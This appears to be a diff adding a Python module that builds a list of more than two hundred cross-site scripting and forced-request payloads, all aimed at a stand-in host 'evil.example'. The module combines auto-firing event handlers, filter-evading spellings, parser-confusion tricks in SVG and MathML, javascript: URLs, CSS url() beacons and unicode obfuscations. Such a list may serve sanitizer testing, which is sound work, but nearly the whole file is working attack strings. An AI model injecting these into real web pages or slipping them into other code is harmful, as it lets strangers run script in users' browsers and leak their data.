@@ -1,0 +1,150 @@
+"""Ways to make a page run what a stranger wrote, or to make it ask a stranger's server: made from their parts."""
+
+from itertools import product
+
+HOST = "evil.example"
+RUN = f"top.hit=1;window.hit=1;new/**/Image().src=`https://{HOST}/ran`"
+ASK = f"https://{HOST}/asked"
+
+# Elements that tell an event without anybody touching them, each with the event.
+BY_THEMSELVES = [
+    ("img src=x:", "onerror"),
+    ("img srcset=x:", "onerror"),
+    ("image src=x:", "onerror"),
+    ("input type=image src=x:", "onerror"),
+    ("svg", "onload"),
+    ("svg><animate attributeName=x dur=1s", "onbegin"),
+    ("svg><set attributeName=x dur=1s", "onbegin"),
+    ("body", "onpageshow"),
+    ("body", "onload"),
+    ("iframe", "onload"),
+    ("iframe srcdoc=x", "onload"),
+    ("video src=x:", "onerror"),
+    ("video><source src=x:", "onerror"),
+    ("audio src=x:", "onerror"),
+    ("object data=x:", "onerror"),
+    ("embed src=x:", "onerror"),
+    ("link rel=stylesheet href=x:", "onerror"),
+    ("script src=x:", "onerror"),
+    ("style", "onload"),
+    ("details open", "ontoggle"),
+    ("input autofocus", "onfocus"),
+    ("textarea autofocus", "onfocus"),
+    ("select autofocus", "onfocus"),
+    ("a id=x tabindex=1 autofocus", "onfocus"),
+    ("div contenteditable autofocus", "onfocus"),
+    ("marquee", "onstart"),
+    ("xss style=animation:a\u00a01s", "onanimationstart"),
+]
+# How an attribute may be written so that a careless reader does not see it.
+WRITTEN = [
+    "<{tag} {event}={code}>",
+    "<{tag} {event}='{code}'>",
+    '<{tag} /{event}="{code}"/>',
+    "<{tag}\t\n{upper} = {code} >",
+    '"><{tag} {event}={code} x=""><"',
+]
+# Whole pieces, each of its own kind.
+PIECES = [
+    f"<script>{RUN}</script>",
+    f"<ScRiPt >{RUN}</sCrIpT\t>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"<<script>{RUN}//<</script>",
+    f"<script\x0c>{RUN}</script>",
+    f"<script>{RUN}<!--",
+    f"</title><script>{RUN}</script>",
+    f"</textarea></style></noscript><script>{RUN}</script>",
+    f"<!--><script>{RUN}</script>-->",
+    f"<![CDATA[<script>{RUN}</script>]]>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><script href='data:text/javascript,{RUN}'/></svg>",
+    f"<svg><style><img src=x: onerror={RUN}></style></svg>",
+    f"<svg><foreignObject><img src=x: onerror={RUN}></foreignObject></svg>",
+    f"<svg><use href='data:image/svg+xml,<svg id=a xmlns=http://www.w3.org/2000/svg><image href=x: onerror={RUN}></svg>#a'>",
+    f"<math><mtext><table><mglyph><style><img src=x: onerror={RUN}></style></mglyph></table></mtext></math>",
+    f"<math><mi><style><!--</style><img src=x: onerror={RUN}>--></mi></math>",
+    f"<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror={RUN}>",
+    f"<noscript><p title='</noscript><img src=x: onerror={RUN}>'></noscript>",
+    f"<template id=t><img src=x: onerror={RUN}></template><script>document.body.append(t.content)</script>",
+    f"<xmp><p title='</xmp><img src=x: onerror={RUN}>'></xmp>",
+    f"<select><style></select><img src=x: onerror={RUN}></style>",
+    f"<table><td background='javascript:{RUN}'><img src=x: onerror={RUN}></td></table>",
+    f"<iframe src='javascript:{RUN}'></iframe>",
+    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
+    f"<iframe srcdoc='&lt;img src=x: onerror={RUN}&gt;'></iframe>",
+    f"<object data='javascript:{RUN}'></object>",
+    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
+    f"<embed src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload={RUN}>'>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
+    f"<meta http-equiv=refresh content='0;url={ASK}'>",
+    f"<base href='https://{HOST}/'><img src=asked><script src=asked></script>",
+    f"<a href='javascript:{RUN}' id=x>a</a><script>x.click()</script>",
+    f"<a href='java\tscript:{RUN}'>a</a><img src=x: onerror={RUN}>",
+    f"<a href='&#106;avascript:{RUN}'>a</a><svg onload={RUN}>",
+    f"<form action='javascript:{RUN}'><button autofocus onfocus={RUN}>a</button></form>",
+    f"<body background='{ASK}'>",
+    f"<link rel=stylesheet href='{ASK}'>",
+    f"<link rel=preload as=image href='{ASK}'>",
+    f"<link rel=prefetch href='{ASK}'>",
+    f"<link rel=dns-prefetch href='https://{HOST}'><img src='{ASK}'>",
+    f"<img src='{ASK}'>",
+    f"<img src='//{HOST}/asked'>",
+    f"<img src='\\\\{HOST}\\asked'>",
+    f"<img srcset='{ASK} 1x'>",
+    f"<picture><source srcset='{ASK}'><img src=x:></picture>",
+    f"<video poster='{ASK}'></video>",
+    f"<video src='{ASK}' autoplay></video>",
+    f"<audio src='{ASK}' autoplay></audio>",
+    f"<video><track default src='{ASK}'></video><img src='{ASK}'>",
+    f"<iframe src='{ASK}'></iframe>",
+    f"<object data='{ASK}'></object>",
+    f"<embed src='{ASK}'>",
+    f"<input type=image src='{ASK}'>",
+    f"<svg><image href='{ASK}' width=9 height=9 /></svg>",
+    f"<svg><image xlink:href='{ASK}' width=9 height=9 /></svg>",
+    f"<svg><feImage href='{ASK}'/></svg><img src='{ASK}'>",
+    f"<svg fill='url({ASK}#a)'><rect width=9 height=9 /></svg><img src='{ASK}'>",
+    f"<style>@import '{ASK}';</style>",
+    f"<style>body{{background:url({ASK})}}</style>",
+    f"<style>*{{background:u\\72l({ASK})}}</style>",
+    f"<style>@font-face{{font-family:a;src:url({ASK})}}body{{font-family:a}}</style><p>a",
+    f"<style>p::before{{content:url({ASK})}}</style><p>a",
+    f"<style>li{{list-style:url({ASK})}}</style><li>a",
+    f"<style>p{{cursor:url({ASK}),auto;background:image-set('{ASK}' 1x)}}</style><p>a",
+    f"<p style='background:url({ASK})'>a",
+    f"<p style='background:URL(&quot;{ASK}&quot;)'>a",
+    f"<p style='background-image:u\\72 l({ASK})'>a",
+    f"<p style=\"background-image:\\75\\72\\6c('{ASK}')\">a",
+    f"<p style='background:/*a*/url(/*b*/{ASK})'>a<img src='{ASK}'>",
+    f"<p style='list-style-image:url({ASK});display:list-item'>a",
+    f"<p style='border-image:url({ASK}) 1'>a<img src='{ASK}'>",
+    f"<p style='mask:url({ASK})'>a",
+    f"<p style='content:url({ASK})'>a",
+    f"<p style='background:image-set(\"{ASK}\" 1x)'>a",
+    f"<p style='--a:url({ASK});background:var(--a)'>a",
+    f"<p style='position:fixed;inset:0;background:url({ASK})'>covered",
+    f"<table background='{ASK}'><td>a</table>",
+    f"<td background='{ASK}'>a</td><table><td background='{ASK}'>a</table>",
+    f"<div><p title='`>{RUN}'><script>{RUN}</script>",
+    "\u202e<script>" + RUN + "</script>\u202c",
+    "\ufeff<svg/onload=" + RUN + ">",
+    "<\u200cscript>" + RUN + "</script><svg onload=" + RUN + ">",
+    "＜script＞" + RUN + "＜/script＞<svg onload=" + RUN + ">",
+    f"{{{{constructor.constructor('{RUN}')()}}}}<svg onload={RUN}>",
+    f"${{{RUN}}}<svg onload={RUN}>",
+    f"%3Cscript%3E{RUN}%3C/script%3E<svg onload={RUN}>",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;<svg onload={RUN}>",
+    f"';{RUN};//\";{RUN};//--></script><svg onload={RUN}>",
+]
+
+
+def payloads() -> list[str]:
+    """More than two hundred, all different."""
+    made = [
+        form.format(tag=tag, event=event, upper=event.upper(), code=RUN)
+        for (tag, event), form in product(BY_THEMSELVES, WRITTEN)
+    ]
+    return list(dict.fromkeys(made + PIECES))
+
+
+SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script><image href="{ASK}"/></svg>'
